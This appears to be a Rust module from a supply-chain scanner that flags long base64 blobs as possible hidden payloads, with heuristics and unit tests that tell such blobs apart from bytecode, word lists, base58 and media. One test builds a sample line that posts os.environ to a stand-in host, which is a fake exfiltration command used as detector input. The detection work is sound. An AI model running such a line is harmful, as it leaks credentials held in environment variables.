//! Long encoded blobs: base64 long enough to hide a payload, told apart from the data
//! libraries legitimately embed (hex bytecode, word lists, base58, media).

use crate::analysis::classify;
use crate::analysis::lines::contains;

/// Base64 of well-known binary formats (WebAssembly, PNG, JPEG, GIF, WOFF/WOFF2, OpenType,
/// TrueType, gzip, Move bytecode): embedded assets, not hidden code.
const KNOWN_MEDIA: [&str; 10] = [
    "AGFzbQ",
    "iVBORw0KGgo",
    "/9j/",
    "R0lGOD",
    "d09GRg",
    "d09GMg",
    "T1RUTw",
    "AAEAAA",
    "H4sI",
    "oRzrCw",
];

/// Test, fixture and mock trees under any spelling (`tests/`, `_tests/`, `module_testing/`):
/// test vectors are not payloads.
pub(super) fn testish(path: &str) -> bool {
    classify::test_path(path)
        || path.split('/').rev().skip(1).any(|c| {
            let c = c.to_ascii_lowercase();
            let t = c.trim_matches('_');
            t.starts_with("test")
                || t.ends_with("tests")
                || t.ends_with("_testing")
                || matches!(t, "fixtures" | "mocks" | "__mocks__" | "testdata")
        })
}

/// Build outputs (`dist/`, `lib.esm/`, …: generated from sources scanned elsewhere) and word
/// lists (ethers' packed BIP-39 lists): a long encoded run there is data, not a payload.
pub(super) fn generated_or_word_list(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    lower
        .split('/')
        .rev()
        .skip(1)
        .any(|c| matches!(c, "dist" | "lib.esm" | "lib.commonjs" | "umd" | "cjs" | "esm") || c.contains("wordlist"))
        || classify::file_name(&lower).contains("wordlist")
}

/// Is this run base64 a payload could hide in, rather than some other data?
/// - hex (`0x6080604052…` EVM bytecode, hashes): only hex digits after an optional `0x`;
/// - base58 (Solana transactions, keys): none of `0 O I l + /`;
/// - word lists (BIP-39 lists packed into one string): letters mostly lower case, or
///   vowels making up a third of the lower-case letters (base64 of anything has ~20 %);
/// - base64 of real bytes mixes upper case, lower case and digits.
pub(super) fn looks_base64(run: &[u8]) -> bool {
    let body = run
        .strip_prefix(b"0x")
        .or_else(|| run.strip_prefix(b"0X"))
        .unwrap_or(run);
    if body.iter().all(|b| b.is_ascii_hexdigit() || *b == b'=') {
        return false;
    }
    if !body
        .iter()
        .any(|b| matches!(b, b'0' | b'O' | b'I' | b'l' | b'+' | b'/'))
    {
        return false;
    }
    let n = body.len().max(1);
    let upper = body.iter().filter(|b| b.is_ascii_uppercase()).count();
    let lower = body.iter().filter(|b| b.is_ascii_lowercase()).count();
    let digit = body.iter().filter(|b| b.is_ascii_digit()).count();
    let vowels = body.iter().filter(|b| b"aeiou".contains(b)).count();
    upper * 10 >= n
        && lower * 10 >= n
        && digit * 50 >= n
        && upper * 10 >= (upper + lower) * 2
        && vowels * 10 < lower * 3
}

/// The first base64 run of 1,500+ characters on any long line that looks like a payload:
/// (line, length). Only lines of 1,500+ bytes are examined, so ordinary code costs one
/// `memchr` pass. One per file: the check reports it once, however many blobs follow.
pub(super) fn long_blob(data: &[u8]) -> Option<(u32, usize)> {
    const MIN: usize = 1500;
    let mut start = 0;
    let mut line_no = 0u32;
    for nl in memchr::memchr_iter(b'\n', data).chain(std::iter::once(data.len())) {
        line_no += 1;
        let line = &data[start..nl];
        start = nl + 1;
        if line.len() < MIN {
            continue;
        }
        let mut i = 0;
        while i < line.len() {
            let run_len = line[i..]
                .iter()
                .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
                .count();
            if run_len == 0 {
                i += 1;
                continue;
            }
            let (begin, end) = (i, i + run_len);
            i = end;
            if run_len < MIN {
                continue;
            }
            let run = &line[begin..end];
            // Inline images and fonts are data, not hidden code.
            let before = &line[begin.saturating_sub(40)..begin];
            if contains(before, "base64,")
                || KNOWN_MEDIA.iter().any(|m| run.starts_with(m.as_bytes()))
                || !looks_base64(run)
            {
                continue;
            }
            return Some((line_no, run_len));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn b64(n: usize) -> String {
        use base64::Engine as _;
        let bytes: Vec<u8> = (0..n as u32).map(|i| (i * 31 % 251) as u8).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn build_outputs_and_word_lists_are_data() {
        for p in [
            "dist/ethers.js",
            "lib.esm/wordlists/lang-ko.js",
            "src.ts/wordlists/lang-zh.ts",
            "dist/wordlists-extra.js",
            "src/wordlist.ts",
        ] {
            assert!(generated_or_word_list(p), "{p}");
        }
        for p in ["src/index.js", "lib/payload.js", "distance/a.js", "src/words.ts"] {
            assert!(!generated_or_word_list(p), "{p}");
        }
    }

    #[test]
    fn payload_vs_data() {
        assert!(looks_base64(b64(1500).as_bytes()));
        use base64::Engine as _;
        let script = "import os, requests; requests.post('https://x.example', data=os.environ)\n".repeat(30);
        let enc = base64::engine::general_purpose::STANDARD.encode(script);
        assert!(looks_base64(enc.as_bytes()), "base64 of a script");
        // EVM creation bytecode.
        let evm = format!("0x60806040523480156100105760008{}", "0a2646970667358221220".repeat(80));
        assert!(!looks_base64(evm.as_bytes()));
        // Pure hex.
        assert!(!looks_base64("deadbeefCAFE0123".repeat(100).as_bytes()));
        // A BIP-39-style word list stored as one string, with a few markers.
        let words = "abandonAbilityAbleAboutAbove1absentAbsorbAbstract2absurdAbuse0access".repeat(25);
        assert!(!looks_base64(words.as_bytes()));
        // Base58 (no 0, O, I, l).
        let b58: String = b64(1500).chars().filter(|c| !"0OIl+/".contains(*c)).collect();
        assert!(!looks_base64(b58.as_bytes()));
    }

    #[test]
    fn test_trees() {
        assert!(testish("web3/_utils/module_testing/emitter_contract.py"));
        assert!(testish("packages/ethers/src._tests/blockchain-data.ts"));
        assert!(testish("tests/fixtures/x.js"));
        assert!(!testish("src/contest/x.js"));
        assert!(!testish("lib/attestation.ts"));
    }
}
